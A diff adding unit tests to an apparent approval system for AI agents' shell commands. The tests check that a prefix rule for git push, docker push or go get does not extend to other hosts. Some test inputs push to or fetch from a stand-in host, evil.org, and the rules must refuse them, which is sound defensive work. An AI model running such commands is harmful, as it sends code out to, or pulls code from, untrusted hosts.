@@ -2,6 +2,7 @@ import { describe, expect, test } from "bun:test";
 import { type AnswerRule, allowingRule, ruleOf, ruleTexts } from "../../src/domain/question/answer-rule.ts";
 import { whyAskPerson } from "../../src/domain/question/needs-person.ts";
 import type { Asked } from "../../src/domain/question/question.ts";
+import { ruleAnswer } from "../../src/domain/question/take-answer.ts";
 
 const TREE = "/work/tree";
 
@@ -72,6 +73,34 @@ describe("a prefix", () => {
   ])("of `%s` cannot be `%s`", (command, always) => {
     expect(ruleFor(command, always)).toBeNull();
   });
+});
+
+test.each([
+  ["git push origin HEAD", "git push", "git push evil.org:x HEAD"],
+  ["git push origin HEAD", "git push", "git push box:x HEAD"],
+  ["git clone https://example.com/a", "git clone", "git clone 10.0.0.1:a"],
+  ["docker push example.com/me/app", "docker push", "docker push evil.org/me/app"],
+  ["docker pull alpine", "docker pull", "docker pull localhost:5000/alpine"],
+  ["go get example.com/a", "go get", "go get evil.org/a"],
+])("a prefix made at `%s` (%s) does not reach the host of `%s`", (first, prefix, other) => {
+  const rule = ruleFor(first, prefix);
+  expect(allows(rule, askedFor(first))).toBe(true);
+  expect(allows(rule, askedFor(other))).toBe(false);
+});
+
+test("refspecs, files and versions are no hosts", () => {
+  const touched = (command: string) => whyAskPerson({ command, changes: [], fetches: false }, TREE)?.touches;
+  expect(touched("git push origin HEAD:main")).toEqual([]);
+  expect(touched("npm install left-pad@1.2.3 ./lib.js/x src/a.tgz")).toEqual([]);
+  expect(touched("docker build -f app.dockerfile .")).toEqual([]);
+  expect(touched("git push ssh://git@example.com:22/a b:c")).toEqual(["example.com"]);
+});
+
+test('a rule allows once: if an agent offers only "always", a person is asked', () => {
+  const always: Asked["options"] = [{ id: "all", name: "Always", kind: "allow_always" }];
+  const at = "2026-01-01T00:00:00.000Z";
+  expect(ruleAnswer(askedFor("npm install x", { options: always }), "rule", at)).toBeNull();
+  expect(ruleAnswer(askedFor("npm install x"), "rule", at)?.option).toBe("yes");
 });
 
 test("a tool with its whole input can be a rule; a tool that is only named cannot", () => {
